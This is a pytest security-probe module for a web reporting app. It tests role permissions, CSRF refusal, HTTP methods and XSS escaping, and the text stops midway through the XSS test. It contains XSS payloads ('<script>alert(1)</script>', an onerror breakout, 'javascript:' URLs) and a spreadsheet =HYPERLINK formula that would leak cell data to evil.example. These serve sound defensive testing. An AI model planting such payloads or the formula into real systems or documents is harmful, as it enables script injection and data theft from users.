"""Issue 15, last item: the security probes run again, end to end, and their table of
attempts and results written to ``test-artifacts/security-probes.md`` (docs/security.md holds
a copy of one run).

Every probe drives the real app (``create_app`` on a real SQLite copy of the loaded warehouse
plus the demonstration accounts) or the real command line, and records (area, attempt,
expected, observed). Areas:

- write routes x roles: every unsafe route of ``app.routes`` (a new one fails
  ``test_every_unsafe_route_has_its_expectation_and_every_role_its_probe`` until it has its
  row in ``NEEDS``), sent by
  every role the code defines (and the public, a signed-out cookie, a disabled account) with
  that visitor's valid CSRF token; a refused request changes nothing in any table;
- CSRF: no token, a wrong one, another session's, a foreign ``Origin`` or ``Referer``;
- HTTP methods: PUT, PATCH, DELETE (and POST where only GET is served) on every path;
- XSS: hostile text in every free-text field a person can write, then every page showing it;
- uploads: size limits, types renamed, zip bombs, path traversal names, unsafe XML in xlsx;
- file readers (command line ``target87 load``): billion laughs, XXE, DTD fetching, binary CSV;
- kill -9 during a load: ``tests/ingest/test_load_log_atomic.py`` (referenced, not repeated).

The request builders, world and site helpers are those of ``test_reporting_security`` and
``test_reporting_support``; who may do what is written out here (``EXPECTED_GRANTS`` is
checked against ``reporting.permissions.GRANTS``, the routes' needs are by hand).
"""

from __future__ import annotations

import hashlib
import html as html_lib
import http.server
import io
import os
import re
import secrets
import shutil
import threading
import zipfile
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from fastapi.routing import APIRoute
from sqlalchemy import select
from starlette.routing import Mount, Route
from typer.testing import CliRunner

from target87 import reporting
from target87.reporting import models as R
from target87.reporting import permissions
from target87.web.reporting.admin import config_lines
from target87.web.site.forms import PRE_COOKIE
from target87.web.site.headers import CSP
from target87.web.site.visitors import SESSION_COOKIE
from tests.web import test_reporting_security as security
from tests.web import test_reporting_support as support
from tests.web.test_reporting_support import PASSWORD, SECRET, email, pdf_bytes, template_row

demo_db, world = support.demo_db, security.world  # fixtures

ROOT = Path(__file__).resolve().parents[2]
REPORT = ROOT / "test-artifacts" / "security-probes.md"
SDMX_FIXTURES = ROOT / "tests" / "interop" / "fixtures" / "sdmx"
UNSAFE_METHODS = ("POST", "PUT", "PATCH", "DELETE")
A, B = security.A, security.B  # Nepal (the things probed) and Uganda (another country)

# ---------------------------------------------------------------------------------------------
# The table of probes, written at the end of the module
# ---------------------------------------------------------------------------------------------


@dataclass
class Probe:
    area: str
    attempt: str
    expected: str
    observed: str
    ok: bool


@dataclass
class Probes:
    rows: list[Probe] = field(default_factory=list)

    def add(self, area: str, attempt: str, expected: str, observed: str, ok: bool) -> bool:
        self.rows.append(Probe(area, attempt, expected, observed, bool(ok)))
        return bool(ok)

    def failures(self, area: str) -> list[str]:
        return [
            f"{p.attempt}: expected {p.expected}, observed {p.observed}"
            for p in self.rows
            if p.area == area and not p.ok
        ]


def _cell(text: str) -> str:
    """Table cell text: HTML-escaped (payloads stay inert in rendered Markdown), one line."""
    text = html_lib.escape(" ".join(str(text).split()), quote=False)
    return text.replace("|", "\\|")


AREAS = ("route table", "write routes x roles", "CSRF", "HTTP methods", "XSS",
         "formula (CSV) injection", "uploads", "file readers (target87 load)",
         "kill -9 during a load")  # fmt: skip


def markdown(probes: Probes, today: date) -> str:
    areas: dict[str, list[Probe]] = {}
    for p in probes.rows:
        areas.setdefault(p.area, []).append(p)
    failed = sum(not p.ok for p in probes.rows)
    missing = [a for a in AREAS if a not in areas]
    lines = [
        "# Security probes: attempts and results",
        "",
        f"Written by `tests/web/test_security_probes.py` on {today.isoformat()}: "
        f"{len(probes.rows)} probes, {failed} failed."
        + (f" **Partial run**: nothing recorded for {', '.join(missing)}." if missing else ""),
        "",
        "| Area | Probes | Failed |",
        "|---|---:|---:|",
        *(f"| {a} | {len(ps)} | {sum(not p.ok for p in ps)} |" for a, ps in areas.items()),
        "",
        "| # | Area | Attempt | Expected | Observed | Result |",
        "|---:|---|---|---|---|---|",
    ]
    for number, p in enumerate(probes.rows, start=1):
        cells = (p.area, p.attempt, p.expected, p.observed)
        verdict = "pass" if p.ok else "**FAIL**"
        lines.append(f"| {number} | " + " | ".join(_cell(c) for c in cells) + f" | {verdict} |")
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def probes():
    table = Probes()
    yield table
    if table.rows:
        REPORT.parent.mkdir(parents=True, exist_ok=True)
        REPORT.write_text(markdown(table, date.today()), encoding="utf-8")


# ---------------------------------------------------------------------------------------------
# The database's fingerprint: every table, every row
# ---------------------------------------------------------------------------------------------

# Written by every request of a signed-in visitor (at most once a minute): not a change.
VOLATILE = {"user_session": {"last_seen_at"}}
JOURNAL = "probe_write"


def _columns(cursor, table: str) -> list[str]:
    return [row[1] for row in cursor.execute(f'PRAGMA table_info("{table}")')]


def _tables(cursor) -> list[str]:
    rows = cursor.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    return sorted(n for (n,) in rows if not n.startswith("sqlite_") and n != JOURNAL)


def watch_writes(path: str) -> None:
    """Triggers on every table of the SQLite file ``path`` that note in ``probe_write`` each
    row inserted, deleted or updated (an update of ``VOLATILE`` columns only is no write).
    Rolled back with the write they note: the journal holds what was committed."""
    import sqlite3

    with sqlite3.connect(path) as conn:
        cursor = conn.cursor()
        tables = _tables(cursor)
        cursor.execute(f"CREATE TABLE {JOURNAL} (id INTEGER PRIMARY KEY, tbl TEXT NOT NULL)")
        for t in tables:
            note = f"BEGIN INSERT INTO {JOURNAL} (tbl) VALUES ('{t}'); END"
            kept = [c for c in _columns(cursor, t) if c not in VOLATILE.get(t, ())]
            differs = " OR ".join(f'OLD."{c}" IS NOT NEW."{c}"' for c in kept)
            cursor.execute(f'CREATE TRIGGER "probe_i_{t}" AFTER INSERT ON "{t}" {note}')
            cursor.execute(f'CREATE TRIGGER "probe_d_{t}" AFTER DELETE ON "{t}" {note}')
            cursor.execute(
                f'CREATE TRIGGER "probe_u_{t}" AFTER UPDATE ON "{t}" WHEN {differs} {note}'
            )


def _query(site, sql: str) -> list[tuple]:
    raw = site.app.state.engine.raw_connection()
    try:
        return raw.cursor().execute(sql).fetchall()
    finally:
        raw.close()


def mark(site) -> int:
    """Where the write journal stands."""
    return _query(site, f"SELECT coalesce(max(id), 0) FROM {JOURNAL}")[0][0]


def written_since(site, since: int) -> list[str]:
    """The tables written since ``mark`` was ``since``."""
    return [t for (t,) in _query(site, f"SELECT DISTINCT tbl FROM {JOURNAL} WHERE id > {since}")]


def fingerprint(site) -> dict[str, str]:
    """sha256 of every table's rows (sorted), by table name: taken at the start and the end of
    a batch of probes, the journal saying which probe wrote what in between."""
    out = {}
    raw = site.app.state.engine.raw_connection()
    try:
        cursor = raw.cursor()
        for name in _tables(cursor):
            kept = ", ".join(f'"{c}"' for c in _columns(cursor, name)
                             if c not in VOLATILE.get(name, ()))  # fmt: skip
            rows = cursor.execute(f'SELECT {kept} FROM "{name}" ORDER BY {kept}').fetchall()
            out[name] = hashlib.sha256(repr(rows).encode()).hexdigest()
    finally:
        raw.close()
    return out


def changed(before: dict[str, str], after: dict[str, str]) -> list[str]:
    return sorted(t for t in before.keys() | after.keys() if before.get(t) != after.get(t))


def unchanged_probe(probes: Probes, area: str, site, before: dict[str, str], what: str) -> None:
    """The whole database compared with its fingerprint before ``what``."""
    differ = changed(before, fingerprint(site))
    probes.add(area, f"fingerprint of every table before and after {what}", "identical",
               f"tables that differ: {', '.join(differ) or 'none'}", not differ)  # fmt: skip


@pytest.fixture(scope="module")
def watched(world):
    """``security.world`` with the write journal's triggers in its database (every site made
    from it has them)."""
    watch_writes(world.path)
    return world


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


# ---------------------------------------------------------------------------------------------
# Routes and who may use them
# ---------------------------------------------------------------------------------------------


def endpoints(routes, prefix: str = ""):
    """(path, methods) of every endpoint the app serves: routes of included routers (as
    ``security.walk``), but also plain Starlette routes and mounted routers, which a route
    added with ``app.add_route`` or ``app.mount`` would be."""
    for route in routes:
        inner = getattr(route, "original_router", None)
        if inner is not None:
            context = getattr(route, "include_context", None)
            yield from endpoints(inner.routes, prefix + (getattr(context, "prefix", "") or ""))
        elif isinstance(route, APIRoute | Route):
            yield prefix + route.path, set(route.methods or ())
        elif isinstance(route, Mount):
            if getattr(route.app, "routes", None) is not None:  # a mounted router or app
                yield from endpoints(route.app.routes, prefix + route.path)
            else:  # StaticFiles: GET and HEAD only (probed in the methods test)
                yield prefix + route.path + "/{path}", {"GET", "HEAD"}


def unsafe_routes(app) -> set[tuple[str, str]]:
    return {(m, p) for p, methods in endpoints(app.routes) for m in methods if m in UNSAFE_METHODS}


ANYONE, SIGNED_IN, USERS_OR_SELF = "anyone", "signed_in", "manage_users_or_self"
# The sourcing screen (issue 20): POSTs that write nothing and are open to the public; their
# CSRF, origin, size and nothing-written checks are in tests/web/test_supply_pages.py (the page
# form, a token tied to the pre-session cookie) and test_supply_api.py (the stateless API).
SCREEN_ROUTES = {("POST", "/supply/screen"), ("POST", "/api/v1/supply/screen")}
# What each unsafe route needs: a right of reporting.permissions (for the country whose thing
# it writes, Nepal here), or one of the three above. Written by hand from the issue.
NEEDS: dict[tuple[str, str], str] = {
    ("POST", "/signin"): ANYONE,
    ("POST", "/signout"): ANYONE,
    ("POST", "/account/password"): SIGNED_IN,
    ("POST", "/reporting/countries/{code}/reports"): "edit_report",
    ("POST", "/reporting/countries/{code}/commitments"): "edit_roadmap",
    ("POST", "/reporting/commitments/{commitment_id}"): "edit_roadmap",
    ("POST", "/reporting/commitments/{commitment_id}/delete"): "edit_roadmap",
    ("POST", "/reporting/commitments/{commitment_id}/actions"): "edit_roadmap",
    ("POST", "/reporting/actions/{action_id}"): "edit_roadmap",
    ("POST", "/reporting/actions/{action_id}/delete"): "edit_roadmap",
    ("POST", "/reporting/countries/{code}/indicators"): "configure_indicators",
    ("POST", "/reporting/series"): "configure_indicators",
    ("POST", "/reporting/reports/{report_id}/values"): "edit_report",
    ("POST", "/reporting/reports/{report_id}/narratives/{commitment_id}"): "edit_report",
    ("POST", "/reporting/reports/{report_id}/template"): "edit_report",
    ("POST", "/reporting/reports/{report_id}/attachments"): "edit_report",
    ("POST", "/reporting/attachments/{attachment_id}/delete"): "edit_report",
    ("POST", "/reporting/reports/{report_id}/submit"): "submit",
    ("POST", "/reporting/reports/{report_id}/return"): "review",
    ("POST", "/reporting/reports/{report_id}/approve"): "review",
    ("POST", "/reporting/reports/{report_id}/publish"): "publish",
    ("POST", "/reporting/users"): "manage_users",
    ("POST", "/reporting/users/{user_id}/role"): "manage_users",
    ("POST", "/reporting/users/{user_id}/active"): "manage_users",
    ("POST", "/reporting/users/{user_id}/password"): USERS_OR_SELF,  # the viewer's account
    ("POST", "/reporting/users/{user_id}/sessions"): USERS_OR_SELF,
}
# The permission table as the issue gives it (checked against the code's own).
EXPECTED_GRANTS = {
    "admin": dict.fromkeys(permissions.ACTIONS, "any"),
    "secretariat": dict.fromkeys(
        ("read_published", "read_unpublished", "review", "publish", "configure_indicators",
         "read_audit"), "any"),
    "focal_point": {"read_published": "any", "read_unpublished": "own", "edit_roadmap": "own",
                    "edit_report": "own", "submit": "own", "read_audit": "own"},
    "viewer": {"read_published": "any", "read_unpublished": "own"},
}  # fmt: skip


@dataclass(frozen=True)
class Role:
    """A visitor: the demo account it uses (None: no cookie), the account's role and country
    in the code's terms, and the state of its session."""

    account: str | None
    role: str | None
    country: str | None = None
    session: str = "open"  # "none", "open", "ended" (signed out), "disabled" (account off)

    @property
    def acts_as_public(self) -> bool:
        return self.session != "open"


ROLES = {
    "anonymous": Role(None, None, session="none"),
    "signed-out cookie": Role("focal.npl", "focal_point", A, "ended"),
    "disabled account": Role("disabled.npl", "focal_point", A, "disabled"),
    "viewer (NPL)": Role("viewer.npl", "viewer", A),
    "focal_point (NPL)": Role("focal.npl", "focal_point", A),
    "focal_point (UGA)": Role("focal.uga", "focal_point", B),
    "secretariat": Role("secretariat", "secretariat"),
    "admin": Role("admin", "admin"),
}
SELF = "viewer.npl"  # the account ``{user_id}`` names in security.ROUTES (country A)


def grant(role: Role, action: str, country: str | None) -> bool:
    scope = EXPECTED_GRANTS.get(role.role or "", {}).get(action)
    return scope == "any" or (scope == "own" and country is not None and country == role.country)


def may(role: Role, need: str) -> bool:
    if need == ANYONE:
        return True
    if role.acts_as_public:
        return False
    if need == SIGNED_IN:
        return True
    if need == USERS_OR_SELF:
        return grant(role, "manage_users", None) or role.account == SELF
    return grant(role, need, A)


def client_for(site, role: Role):
    """A client as ``role`` on ``site``, holding a sign-in form cookie as every browser that
    opened the sign-in page does; server errors become 500 answers, recorded as such."""
    if role.session == "disabled":
        with site.db() as s:
            known = s.execute(select(R.User.id).where(R.User.email == email(role.account)))
            if known.first() is None:
                op = reporting.Actor.command_line()
                reporting.create_user(s, op, email(role.account), "Disabled", PASSWORD,
                                      role.role, role.country)  # fmt: skip
    client = site.client(role.account, raise_server_exceptions=False)
    client.cookies.set(PRE_COOKIE, secrets.token_urlsafe(24))
    with site.db() as s:
        if role.session == "ended":
            data = reporting.read_session_token(SECRET, client.cookies.get(SESSION_COOKIE))
            assert reporting.end_session(s, data)
        elif role.session == "disabled":
            reporting.set_active(s, reporting.Actor.command_line(), email(role.account), False)
    return client


def valid_token(client, path: str = "") -> str:
    """The CSRF token this visitor holds for ``path``: the sign-in form's for /signin, else its
    session's, else (no session) its sign-in form's."""
    cookie = client.cookies.get(SESSION_COOKIE)
    if cookie and path != "/signin":
        return reporting.csrf_token(SECRET, reporting.read_session_token(SECRET, cookie).sid)
    return sign_in_token(client)


def sign_in_token(client) -> str:
    return reporting.csrf_token(SECRET, "signin:" + client.cookies.get(PRE_COOKIE))


def send(site, client, method: str, path: str, ids: dict, token: str | None, headers=None):
    """The request of ``security.ROUTES``' row for (method, path) on Nepal's things (sign-in:
    the viewer's credentials), with ``token`` (None: no csrf field)."""
    files = None
    if path == "/signin":
        url, data = path, {"email": email("viewer.npl"), "password": PASSWORD}
    elif path == "/signout":
        url, data = path, {}
    else:
        url, data = security.url_and_data(method, path, A, ids)
        if path.endswith("/template"):  # the draft's own template, one value filled in
            template = _template_with_footnote(site, ids, "probe")
            files = {"file": ("filled.xlsx", template, "application/octet-stream")}
        elif path.endswith("/attachments"):
            files = {"file": ("more.pdf", pdf_bytes("more"), "application/pdf")}
        if "version" not in data and "{report_id}" in path:
            data["version"] = str(report_version(site, ids[security.ROUTES[(method, path)]
                                                           .ids["report_id"]]))  # fmt: skip
    if token is not None:
        data["csrf"] = token
    return client.request(method, url, data=data, files=files, headers=headers)


def report_version(site, report_id: int) -> int:
    with site.db() as s:
        return s.get(R.Report, report_id).version


def outcome(response) -> str:
    """The status, and where it leads or what its refusal says."""
    location = response.headers.get("location")
    if location:
        return f"{response.status_code} -> {location}"
    said = refusal_text(response.text) if response.status_code >= 400 else ""
    return f"{response.status_code}" + (f": '{short(said, 110)}'" if said else "")


# ---------------------------------------------------------------------------------------------
# 1. Every unsafe route, every role
# ---------------------------------------------------------------------------------------------


def test_every_unsafe_route_has_its_expectation_and_every_role_its_probe(watched, tmp_path, probes):
    site = security.site_of(watched, tmp_path / "site")
    found = unsafe_routes(site.app)
    found -= security.UPLOAD_ROUTES  # their rights: tests/web/test_upload_mapping.py
    found -= SCREEN_ROUTES  # read-only, public: tests/web/test_supply_pages.py, test_supply_api.py
    library = {(m, path) for m, path in found if path.startswith("/library/")}
    probes.add("route table", "the library's unsafe routes vs security.LIBRARY_ROUTES",
               "the same set", f"{sorted(library ^ security.LIBRARY_ROUTES) or 'same'}",
               library == security.LIBRARY_ROUTES)  # fmt: skip
    found -= security.LIBRARY_ROUTES  # tests/web/test_library_records.py, test_library_pages.py
    missing, stale = sorted(found - set(NEEDS)), sorted(set(NEEDS) - found)
    probes.add("route table", "unsafe routes of app.routes vs NEEDS", "the same set",
               f"{len(found)} routes; not in NEEDS: {missing or 'none'}; gone: {stale or 'none'}",
               not missing and not stale)  # fmt: skip
    code_roles = set(R.ROLES) | set(permissions.GRANTS)
    probed = {r.role for r in ROLES.values() if not r.acts_as_public}
    probes.add(
        "route table",
        "roles of the code vs roles probed",
        "every role probed",
        f"code: {sorted(code_roles)}; probed: {sorted(probed)}",
        code_roles == probed,
    )
    same = permissions.GRANTS == EXPECTED_GRANTS and {"read_published"} == permissions.PUBLIC
    probes.add("route table", "reporting.permissions.GRANTS vs the issue's table",
               "identical (the public: read_published only)",
               "identical" if same else f"differs: {permissions.GRANTS}", same)  # fmt: skip
    site.app.state.engine.dispose()
    assert probes.failures("route table") == [], "give the new route its row in NEEDS"


def test_every_role_on_every_unsafe_route_gets_its_right_and_a_refusal_writes_nothing(
    watched, tmp_path, probes
):
    shared = security.site_of(watched, tmp_path / "shared")
    ids = watched.ids[A]
    security.template_of(shared, ids)  # downloaded (and cached) before the probes
    clients = {name: client_for(shared, role) for name, role in ROLES.items()}
    area = "write routes x roles"
    before = fingerprint(shared)
    number = 0
    for method, path in sorted(NEEDS):
        need = NEEDS[(method, path)]
        for name, role in ROLES.items():
            allowed = may(role, need)
            attempt = f"{name}: {method} {path} (valid token)"
            if allowed:  # a write that succeeds: on its own copy of the world
                number += 1
                site = security.site_of(watched, tmp_path / f"case{number}")
                client = client_for(site, role)
            else:
                site, client = shared, clients[name]
            since = mark(site)
            response = send(site, client, method, path, ids, valid_token(client, path))
            written = written_since(site, since)
            location = response.headers.get("location", "")
            if allowed:
                expected = "allowed: 303 to a page"
                if path == "/signin":
                    ok = response.status_code == 303 and location == "/reporting"
                elif path == "/signout":
                    ok = response.status_code == 303 and location == "/"
                else:
                    to_sign_in = location.startswith("/signin")
                    ok = response.status_code == 303 and (
                        to_sign_in == (path in security.SIGN_IN_AFTER)
                    )
                observed = f"{outcome(response)}; tables written: {', '.join(written) or 'none'}"
            else:
                if role.acts_as_public:
                    expected = "refused: 403, or 303 to /signin; nothing written"
                    ok = response.status_code == 403 or (
                        response.status_code == 303 and location.startswith("/signin")
                    )
                else:
                    expected = "refused: 403 'may not'; nothing written"
                    ok = response.status_code == 403 and "may not" in response.text
                ok = ok and not written
                observed = f"{outcome(response)}; tables written: {', '.join(written) or 'none'}"
            probes.add(area, attempt, expected, observed, ok)
            if site is not shared:
                site.app.state.engine.dispose()
    unchanged_probe(probes, area, shared, before, "every refused request above")
    shared.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 2. CSRF: tokens and origins
# ---------------------------------------------------------------------------------------------


def test_csrf_every_unsafe_route_refuses_a_forged_request_and_writes_nothing(
    watched, tmp_path, probes
):
    site = security.site_of(watched, tmp_path / "site")
    ids = watched.ids[A]
    security.template_of(site, ids)  # downloaded (and cached) before the probes
    admin = client_for(site, ROLES["admin"])
    other = client_for(site, ROLES["viewer (NPL)"])  # another account's session
    public = client_for(site, ROLES["anonymous"])
    stranger = client_for(site, ROLES["anonymous"])  # another sign-in form's cookie
    area = "CSRF"
    before = fingerprint(site)
    for method, path in sorted(unsafe_routes(site.app)):
        if (method, path) not in NEEDS:
            continue  # the route-table test fails for it
        client = public if path == "/signin" else admin
        good = valid_token(client, path)
        foreign = sign_in_token(stranger) if path == "/signin" else valid_token(other)
        attempts = [
            ("no token", None, None),
            ("a wrong token", "0" * 64, None),
            ("the token of another session", foreign, None),
            ("valid token, Origin https://evil.example", good, {"Origin": "https://evil.example"}),
            ("valid token, Origin null", good, {"Origin": "null"}),
            ("valid token, Referer https://evil.example/", good,
             {"Referer": "https://evil.example/form.html"}),
        ]  # fmt: skip
        for what, token, headers in attempts:
            since = mark(site)
            response = send(site, client, method, path, ids, token, headers)
            written = written_since(site, since)
            message = "another site" if headers else "security token"
            ok = response.status_code == 403 and message in response.text and not written
            probes.add(
                area,
                f"{method} {path}: {what}",
                f"403 '{message}'; nothing written",
                f"{outcome(response)}; says '{message}': {message in response.text}; "
                f"tables written: {', '.join(written) or 'none'}",
                ok,
            )
    unchanged_probe(probes, area, site, before, "every forged request above")
    # Controls: the forged sign-out signed nobody out, and the same request from this site
    # (its own Origin, a valid token) is not refused.
    still = admin.get("/reporting")
    probes.add(area, "admin's session after every forged sign-out", "still signed in (200)",
               outcome(still), still.status_code == 200)  # fmt: skip
    path = "/reporting/countries/{code}/commitments"
    same = send(site, admin, "POST", path, ids, valid_token(admin), {"Origin": "http://testserver"})
    probes.add(area, f"control: POST {path} with a valid token and this site's Origin",
               "accepted (303)", outcome(same), same.status_code == 303)  # fmt: skip
    site.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 3. Methods nobody serves
# ---------------------------------------------------------------------------------------------


def concrete(path: str, ids: dict) -> str:
    """A path with its parameters filled: Nepal's things, else a plausible value."""
    values = {"code": A, "fmt": "csv", "path": "site.css", "run_id": "1"}
    for name, key in {"report_id": "draft", "commitment_id": "commitment", "action_id": "action",
                      "attachment_id": "attachment", "user_id": "user"}.items():  # fmt: skip
        values[name] = str(ids[key])
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: values.get(m.group(1), "1"), path)


def test_methods_no_route_serves_are_refused_on_every_path(watched, tmp_path, probes):
    site = security.site_of(watched, tmp_path / "site")
    admin = client_for(site, ROLES["admin"])
    token = valid_token(admin)
    served: dict[str, set[str]] = {}
    for path, methods in endpoints(site.app.routes):
        served.setdefault(path, set()).update(methods)
    area = "HTTP methods"
    before = fingerprint(site)
    for path in sorted(served):
        url = concrete(path, watched.ids[A])
        others = [m for m in UNSAFE_METHODS if m not in served[path]]
        answers = {m: admin.request(m, url, data={"csrf": token}).status_code for m in others}
        ok = all(code == 405 for code in answers.values())
        observed = ", ".join(f"{m} {code}" for m, code in answers.items())
        probes.add(area, f"{'/'.join(others)} {url}", "405 each", observed, ok)
    unchanged_probe(probes, area, site, before, "every request above")
    site.app.state.engine.dispose()
    assert probes.failures(area) == []


# ---------------------------------------------------------------------------------------------
# 4. XSS: hostile text in every field, read back on every page that shows it
# ---------------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"


def payload(tag: str) -> str:
    """The hostile text, marked with the field it was typed in (the mark survives escaping)."""
    return f"XSS[{tag}]{SCRIPT}{BREAKOUT} {JS_URL}"


RAW = (SCRIPT.lower(), BREAKOUT.lower(), "<img src=x", "</script><img")
JS_ATTRIBUTE = re.compile(r"""(href|src|action|formaction|xlink:href)\s*=\s*["']?\s*javascript:""",
                          re.IGNORECASE)  # fmt: skip
INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)


def unsafe_in(text: str) -> list[str]:
    """What of the payload a page holds unescaped, and any inline script."""
    low = text.lower()
    found = [r for r in RAW if r in low]
    found += [f"{m.group(0)}..." for m in JS_ATTRIBUTE.finditer(text)]
    found += [f"inline {m.group(0)}" for m in INLINE_SCRIPT.finditer(text)]
    return found


def on_this_site(location: str) -> bool:
    """Whether a browser would stay on this site following ``location`` (it drops tabs and
    newlines from a URL, and reads a backslash as a slash)."""
    url = re.sub(r"[\t\n\r]", "", location).replace("\\", "/")
    return url.startswith("/") and not url.startswith("//")


def csp_ok(response) -> bool:
    policy = response.headers.get("content-security-policy", "")
    script = next((d for d in policy.split(";") if d.strip().startswith("script-src")), "")
    return "'self'" in script and "unsafe-inline" not in policy and "unsafe-eval" not in policy


FIELDS = [  # (tag, who writes it, how): every free-text field of the forms
    ("commitment.title", "focal point", "roadmap: edit commitment"),
    ("commitment.description", "focal point", "roadmap: edit commitment"),
    ("new_commitment.title", "focal point", "roadmap: add commitment"),
    ("action.title", "focal point", "roadmap: edit action"),
    ("action.owner_institution", "focal point", "roadmap: edit action"),
    ("action.progress_notes", "focal point", "roadmap: edit action"),
    ("narrative.text", "focal point", "report: narrative"),
    ("value.footnote", "focal point", "report: values form"),
    ("template.footnote", "focal point", "report: Excel template upload"),
    ("attachment.filename", "focal point", "report: attachment's file name"),
    ("return.comment", "secretariat", "review: return with comment"),
    ("approve.comment", "secretariat", "review: approve with comment"),
    ("series.name_en", "secretariat", "indicators: national series"),
    ("series.name_fr", "secretariat", "indicators: national series"),
    ("series.name_es", "secretariat", "indicators: national series"),
    ("series.definition", "secretariat", "indicators: national series"),
    ("user.display_name", "admin", "users: new account"),
]
XSS_SERIES = "NAT_XSS"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
FORMULA_CELL = "SL_TLF_CHLDEC:2023:F:Y5T17:_T"


def formula_probes(probes: Probes, template: bytes, sdmx: str, public) -> None:
    """A footnote that a spreadsheet would run, in each download that carries it."""
    area = "formula (CSV) injection"
    wb = openpyxl.load_workbook(io.BytesIO(template))
    cells = [c for row in wb.worksheets[1].iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]  # fmt: skip
    ok = bool(cells) and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    probes.add(area, f"footnote {FORMULA} in the report's Excel template",
               "a text cell starting with a quote, never a formula",
               ", ".join(f"{c.coordinate}: type {c.data_type}, {c.value[:12]!r}..." for c in cells)
               or "not found", ok)  # fmt: skip
    csv_text = public.get(f"/api/v1/observations?series=SL_TLF_CHLDEC&area={A}&format=csv"
                          "&all_sources=true").text  # fmt: skip
    lines = [line for line in csv_text.splitlines() if "HYPERLINK" in line]
    ok = bool(lines) and all("'=HYPERLINK" in line for line in lines)
    probes.add(area, "the same footnote in the API's CSV, once published",
               "neutralised: the cell starts with a quote",
               f"{len(lines)} row(s); quoted: {ok}", ok)  # fmt: skip
    lines = [line for line in sdmx.splitlines() if "HYPERLINK" in line]
    verbatim = bool(lines) and all("'=HYPERLINK" not in line for line in lines)
    probes.add(area, "the same footnote in the report's SDMX-CSV (for the custodian)",
               "verbatim, by design (interop.sdmx_write: a machine exchange format); "
               "see docs/security.md", f"{len(lines)} row(s); verbatim: {verbatim}",
               verbatim)  # fmt: skip


_FILLED: dict[tuple[int, str], bytes] = {}


def _template_with_footnote(site, ids: dict, text: str) -> bytes:
    """The draft's template with the SL_TLF_CHLDEC total's value and footnote filled."""
    if (ids["draft"], text) not in _FILLED:
        _FILLED[(ids["draft"], text)] = _fill(security.template_of(site, ids), text)
    return _FILLED[(ids["draft"], text)]


def _fill(data: bytes, text: str) -> bytes:
    number = template_row(data, ("SL_TLF_CHLDEC", "_T", "Y5T17"))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    sheet = wb.worksheets[1]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=number, column=header.index("value") + 1).value = 13
    sheet.cell(row=number, column=header.index("footnote") + 1).value = text
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_xss_hostile_text_in_every_field_is_shown_as_text_on_every_page(watched, tmp_path, probes):
    site = security.site_of(watched, tmp_path / "site")
    site.app.state.data_dir = tmp_path / "site" / "files"
    ids = watched.ids[A]
    draft, area = ids["draft"], "XSS"
    focal, reviewer, admin = (client_for(site, ROLES[r]) for r in
                              ("focal_point (NPL)", "secretariat", "admin"))  # fmt: skip
    writes = []

    def post(client, url, data, files=None, tag=""):
        data = {"csrf": valid_token(client), **data}
        if "/reporting/reports/" in url:
            data.setdefault("version", str(report_version(site, draft)))
        response = client.post(url, data=data, files=files)
        writes.append((tag or url, response))
        return response

    # The secretariat defines a national series with hostile names and agrees it for Nepal.
    post(reviewer, "/reporting/series", {
        "code": XSS_SERIES, "unit": "NUMBER", "direction": "higher_is_better", "country": A,
        **{f"name_{lang}": payload(f"series.name_{lang}") for lang in ("en", "fr", "es")},
        "definition": payload("series.definition")}, tag="series")  # fmt: skip
    with site.db() as s:
        config = config_lines(reporting.agreed_indicators(s, A)) + f"\n{XSS_SERIES}"
    post(reviewer, f"/reporting/countries/{A}/indicators", {"config": config}, tag="indicators")
    # The focal point writes every roadmap and report field.
    post(focal, f"/reporting/commitments/{ids['commitment']}", {
        "title": payload("commitment.title"), "description": payload("commitment.description"),
        "version": "1"})  # fmt: skip
    post(focal, f"/reporting/countries/{A}/commitments", {"title": payload("new_commitment.title")})
    post(focal, f"/reporting/actions/{ids['action']}", {
        "title": payload("action.title"), "owner_institution": payload("action.owner_institution"),
        "progress_notes": payload("action.progress_notes"), "status": "planned",
        "start_date": "2023-01-01", "due_date": "2023-12-31", "version": "1"})  # fmt: skip
    post(focal, f"/reporting/reports/{draft}/narratives/{ids['commitment']}",
         {"text": payload("narrative.text")})  # fmt: skip
    post(focal, f"/reporting/reports/{draft}/template", {}, files={"file": (
        "filled.xlsx", _template_with_footnote(site, ids, payload("template.footnote")),
        "application/octet-stream")})  # fmt: skip
    post(focal, f"/reporting/reports/{draft}/values", {
        f"value:{XSS_SERIES}:2023:_T:_T:_T": "7",
        f"footnote:{XSS_SERIES}:2023:_T:_T:_T": payload("value.footnote"),
        f"value:{FORMULA_CELL}": "11", f"footnote:{FORMULA_CELL}": FORMULA})  # fmt: skip
    # clean_filename keeps what follows the last slash: the mark goes after it.
    name = f"{SCRIPT}{BREAKOUT}XSS[attachment.filename] {JS_URL}.pdf"
    post(focal, f"/reporting/reports/{draft}/attachments", {},
         files={"file": (name, pdf_bytes(), "application/pdf")})  # fmt: skip
    refused_name = focal.post(  # a PDF named .xlsx: refused, its name quoted in the message
        f"/reporting/reports/{draft}/attachments",
        data={"csrf": valid_token(focal)},
        files={"file": (payload("refused.filename") + ".xlsx", pdf_bytes(), "application/pdf")},
    )
    template = focal.get(f"/reporting/reports/{draft}/template.xlsx").content
    # Review: return with a comment, submit again, approve with a comment, publish.
    post(focal, f"/reporting/reports/{draft}/submit", {})
    post(reviewer, f"/reporting/reports/{draft}/return", {"comment": payload("return.comment")})
    post(focal, f"/reporting/reports/{draft}/submit", {})
